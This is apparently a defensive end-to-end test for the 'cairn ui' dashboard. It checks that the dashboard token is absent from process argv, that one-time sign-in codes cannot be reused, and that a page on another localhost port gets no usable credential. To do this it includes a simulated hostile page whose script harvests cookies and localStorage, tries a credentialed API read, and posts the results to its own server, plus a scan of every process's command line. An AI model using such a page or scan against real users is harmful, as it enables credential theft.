/**
 * Security review 2026-11-28, finding 4 (Appendix B's approach): the dashboard's
 * credential must be in no process's argv, and useless to a page that another local
 * program serves on another port of 127.0.0.1, where the browser sends 127.0.0.1's
 * cookies too. `cairn ui` runs as a user would start it, with a display and a stand-in
 * `xdg-open` that keeps its argv (as the real opener and a freshly started browser do);
 * headless Chromium opens the link that opener was given, then a page on another port.
 */
import { type ChildProcess, spawn } from "node:child_process";
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { createServer, request, type Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type BrowserContext, chromium } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CAIRN } from "../helpers/cairn.ts";
import { HANG_MS, until } from "../helpers/wait.ts";

const CHROMIUM = process.env.CAIRN_CHROMIUM ?? "/usr/bin/chromium";

/** Every process's argv, as any local user can read it. */
function everyArgv(): { pid: string; argv: string }[] {
  const out: { pid: string; argv: string }[] = [];
  for (const pid of readdirSync("/proc")) {
    if (!/^\d+$/.test(pid)) continue;
    try {
      out.push({ pid, argv: readFileSync(`/proc/${pid}/cmdline`, "utf8").split("\0").join(" ") });
    } catch {
      // Ended while we looked.
    }
  }
  return out;
}

/** One GET with full control of the headers, on a connection of its own. */
function rawGet(port: number, path: string, headers: Record<string, string>): Promise<number> {
  return new Promise((resolve, reject) => {
    const req = request({ host: "127.0.0.1", port, path, headers, agent: false }, (res) => {
      res.resume();
      res.on("end", () => resolve(res.statusCode ?? 0));
    });
    req.on("error", reject);
    req.end();
  });
}

/**
 * The page another program serves on another loopback port: it records the cookies the
 * browser sends it and what its script can reach (cookies, storage, a read of the
 * dashboard's API from the browser, which holds whatever credential there is).
 */
function evilPage(dashboardPort: number): string {
  return `<!doctype html><script>
    (async () => {
      let api;
      try {
        const r = await fetch("http://127.0.0.1:${dashboardPort}/api/projects", { credentials: "include" });
        api = "read " + r.status + " " + (await r.text()).slice(0, 200);
      } catch (e) { api = "blocked: " + e; }
      const report = { cookie: document.cookie, storage: JSON.stringify(localStorage), api };
      await fetch("/report", { method: "POST", body: JSON.stringify(report) });
    })();
  </script>`;
}

describe.skipIf(!existsSync(CHROMIUM) || process.platform !== "linux")(
  "the dashboard's credential outside the dashboard (security review finding 4)",
  () => {
    let root: string;
    let ui: ChildProcess;
    let stderr = "";
    let printed: { url: string; port: number; token: string };
    let opened: string;
    let browser: BrowserContext;
    let evil: Server;
    let evilPort: number;
    const evilSaw: { cookies: string[]; report?: { cookie: string; storage: string; api: string } } = {
      cookies: [],
    };

    beforeAll(async () => {
      root = mkdtempSync(join(tmpdir(), "cairn-e2e-credential-"));
      const home = join(root, "home");
      const bin = join(root, "bin");
      mkdirSync(join(home, ".cairn"), { recursive: true, mode: 0o700 });
      mkdirSync(bin);
      // The stand-in opener: keeps its argv (the link) in /proc for a minute, and says what it got.
      writeFileSync(
        join(bin, "xdg-open"),
        `#!/bin/sh\necho $$ > ${join(root, "opener.pid")}\nprintf '%s' "$1" > ${join(root, "opened")}\ntrap 'kill $! 2>/dev/null; exit 0' TERM\nsleep 60 & wait\n`,
      );
      chmodSync(join(bin, "xdg-open"), 0o755);
      ui = spawn(process.execPath, [CAIRN, "ui", "--json"], {
        cwd: root,
        env: {
          ...process.env,
          HOME: home,
          CAIRN_HOME: "",
          PATH: `${bin}:${process.env.PATH ?? ""}`,
          DISPLAY: ":0",
          NO_COLOR: "1",
        },
        stdio: ["ignore", "pipe", "pipe"],
      });
      ui.stderr?.setEncoding("utf8").on("data", (d: string) => {
        stderr += d;
      });
      let out = "";
      ui.stdout?.setEncoding("utf8").on("data", (d: string) => {
        out += d;
      });
      printed = await until(
        () =>
          out.includes("\n") ? (JSON.parse(out.slice(0, out.indexOf("\n"))) as typeof printed) : undefined,
        "cairn ui printed no JSON line",
        { last: () => stderr },
      );
      // The dashboard's credential: printed for scripts (cairn before this test put it in the URL).
      printed.token ??= new URL(printed.url).searchParams.get("token") ?? "";
      opened = await until(() => {
        try {
          return readFileSync(join(root, "opened"), "utf8") || undefined;
        } catch {
          return undefined;
        }
      }, "cairn ui never ran the browser opener");

      evil = createServer((req, res) => {
        evilSaw.cookies.push(req.headers.cookie ?? "");
        if (req.url === "/report") {
          let body = "";
          req.on("data", (c) => (body += c));
          req.on("end", () => {
            evilSaw.report = JSON.parse(body);
            res.end("ok");
          });
          return;
        }
        res.writeHead(200, { "content-type": "text/html" });
        res.end(evilPage(printed.port));
      });
      await new Promise<void>((r) => evil.listen(0, "127.0.0.1", () => r()));
      evilPort = (evil.address() as { port: number }).port;
      browser = await chromium.launchPersistentContext(mkdtempSync(join(root, "chromium-")), {
        executablePath: CHROMIUM,
        timeout: HANG_MS,
        args: [
          "--headless",
          "--no-sandbox",
          "--disable-gpu",
          "--no-first-run",
          "--disable-background-networking",
        ],
      });
      // Playwright gives up on a wait after 30 s; a loaded machine may take longer.
      browser.setDefaultTimeout(HANG_MS);
    });

    afterAll(async () => {
      await browser?.close();
      evil?.close();
      if (ui && ui.exitCode === null) ui.kill("SIGTERM");
      try {
        process.kill(Number(readFileSync(join(root, "opener.pid"), "utf8")), "SIGTERM");
      } catch {
        // Gone already.
      }
      // Chromium's helpers and the server may still be writing under root for a moment after
      // they are told to stop (ENOTEMPTY seen on a busy machine): rmSync retries those.
      if (root) rmSync(root, { recursive: true, force: true, maxRetries: 10, retryDelay: 200 });
    });

    it("the token is in no process's argv: the opener got a one-time code", () => {
      expect(printed.token).toMatch(/^[A-Za-z0-9_-]{43}$/);
      const holding = everyArgv().filter(({ argv }) => argv.includes(printed.token));
      expect(holding).toEqual([]);
      const opener = everyArgv().filter(({ argv }) => argv.includes(`127.0.0.1:${printed.port}/`));
      expect(opener.length).toBeGreaterThan(0);
      expect(opened).toMatch(new RegExp(`^http://127\\.0\\.0\\.1:${printed.port}/#code=[A-Za-z0-9_-]{43}$`));
      // Two links, two codes: the printed one is not the opener's.
      expect(printed.url).not.toBe(opened);
    });

    it("the browser signs in with the opener's link; the code is spent, and a second use is reported", async () => {
      const page = await browser.newPage();
      await page.goto(opened);
      const kept = await page.waitForFunction(() => localStorage.getItem("cairn-ui-token"), undefined, {
        timeout: HANG_MS,
      });
      expect(await kept.jsonValue()).toBe(printed.token);
      expect(page.url()).toBe(`http://127.0.0.1:${printed.port}/`);
      // Signed in: the page's own calls pass every check (this HOME has no database yet).
      const status = await page.evaluate(async () => {
        const r = await fetch("/api/projects", {
          headers: { "x-cairn-token": localStorage.getItem("cairn-ui-token") ?? "" },
        });
        return r.status;
      });
      expect(status).toBe(503);
      expect((await browser.cookies()).filter((c) => c.name.includes("cairn"))).toEqual([]);
      // Whoever read the code from the opener's argv comes too late.
      const code = new URL(opened).hash.replace(/^#code=/, "");
      const host = `127.0.0.1:${printed.port}`;
      expect(await rawGet(printed.port, "/api/session", { host, "x-cairn-code": code })).toBe(403);
      await until(() => (/used a second time/.test(stderr) ? true : undefined), "no warning on stderr", {
        last: () => stderr,
      });
      await page.close();
    });

    it("a page on another loopback port receives no usable credential", async () => {
      const page = await browser.newPage();
      await page.goto(`http://127.0.0.1:${evilPort}/`);
      const report = await until(() => evilSaw.report, "the other page never reported");
      await page.close();
      // No cookie reached it, its script finds none and no storage of the dashboard's
      // origin, and the browser would not let it read the dashboard's answer.
      expect(evilSaw.cookies.every((c) => !/cairn/.test(c))).toBe(true);
      expect(report.cookie).toBe("");
      expect(report.storage).toBe("{}");
      expect(report.api).toMatch(/^blocked: /);
      // Whatever it got, replayed against the dashboard, opens nothing.
      const host = `127.0.0.1:${printed.port}`;
      for (const got of [...evilSaw.cookies, report.cookie]) {
        expect(await rawGet(printed.port, "/api/projects", { host, cookie: got })).toBe(403);
        const value = got.split("=")[1] ?? "";
        expect(await rawGet(printed.port, "/api/projects", { host, "x-cairn-token": value })).toBe(403);
      }
      expect(await rawGet(printed.port, "/api/projects", { host, "x-cairn-token": printed.token })).toBe(503);
    });
  },
);
